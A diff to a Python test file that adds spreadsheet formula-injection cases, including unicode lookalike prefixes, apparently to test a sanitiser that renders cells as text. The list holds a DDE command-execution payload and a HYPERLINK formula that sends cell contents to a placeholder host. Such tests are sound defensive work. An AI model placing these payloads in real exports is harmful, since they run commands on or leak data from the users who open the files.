@@ -10,7 +10,21 @@ import pytest
 from mersey.charts.chart import Table
 from mersey.formulas import as_text_cell
 
-FORMULAS = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
+FORMULAS = [
+    "=1+1",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "\uff1d1+1",
+    "\uff20SUM(A1)",
+    " =1+1",
+    "\u00a0=1+1",
+    "\ufeff\u200b=1+1",
+    '=HYPERLINK("http://x/?"&A1)',
+]
 
 
 @pytest.mark.parametrize("text", FORMULAS)
